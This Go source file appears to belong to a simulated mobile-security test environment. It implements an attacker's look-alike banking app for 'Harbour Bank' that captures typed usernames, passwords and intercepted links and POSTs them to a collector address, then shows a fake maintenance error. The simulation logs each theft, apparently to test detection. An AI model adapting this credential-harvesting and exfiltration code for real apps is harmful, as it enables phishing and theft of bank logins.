package lookalike

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"

	"keyladder/internal/traffic"
	"keyladder/mobileclient/attacker/network"
	"keyladder/mobileclient/device/sdk"
	"keyladder/mobileclient/release"
)

// name is what the look-alike app is called on devices. People never see it: they see the
// label, which is the bank's.
const name = "com.harbourbank.app2"

// Typed is what somebody typed into the look-alike app, or a link that it was opened with.
type Typed struct {
	User     string `json:"user,omitempty"`
	Password string `json:"password,omitempty"`
	Link     string `json:"link,omitempty"`
}

// The look-alike app needs a program, and the attacker has no compiler at hand: it is
// this very program. A device starts apps under their names.
func init() {
	if len(os.Args) == 1 && os.Args[0] == name {
		if err := sdk.Run(newApp); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(0)
	}
}

// app shows the bank's screens. It sends what is typed into them to the attacker.
type app struct {
	system    *sdk.System
	collector string
	client    *http.Client
}

func newApp(system *sdk.System) (sdk.Handler, error) {
	self, err := sdk.Package()
	if err != nil {
		return nil, err
	}
	_, assets, err := release.Assets(self)
	if err != nil {
		return nil, err
	}
	return &app{
		system:    system,
		collector: string(assets[collectorAsset]),
		client:    &http.Client{Transport: &http.Transport{DialContext: system.Dial}, Timeout: network.Timeout},
	}, nil
}

// collectorAsset holds the address to which what was typed goes.
const collectorAsset = "collector.txt"

func (*app) Open(context.Context, string) error { return nil }

// OpenURL passes on a link that was meant for another app.
func (a *app) OpenURL(ctx context.Context, link string) error {
	return a.send(ctx, Typed{Link: link}, "an app that claims the bank's links sent one to its maker")
}

// Tap has one interesting button.
func (a *app) Tap(ctx context.Context, tap sdk.Tap) (sdk.Screen, error) {
	if tap.What == sdk.SignIn {
		if err := a.send(ctx, Typed{User: tap.User, Password: tap.Password}, "a look-alike app sent a name and a password to its maker"); err != nil {
			return sdk.Screen{Error: err.Error()}, nil
		}
	}
	return sdk.Screen{SignIn: sdk.InApp, Error: "Harbour Bank is being serviced. Please try again in an hour."}, nil
}

func (a *app) send(ctx context.Context, what Typed, note string) error {
	body, err := json.Marshal(what)
	if err != nil {
		return err
	}
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, a.collector, bytes.NewReader(body))
	if err != nil {
		return err
	}
	response, err := a.client.Do(request)
	if err != nil {
		return errors.New("the app's server can't be reached")
	}
	_ = response.Body.Close() // nothing is in it
	return a.system.Report(sdk.Record{Kind: traffic.Note, Summary: note})
}
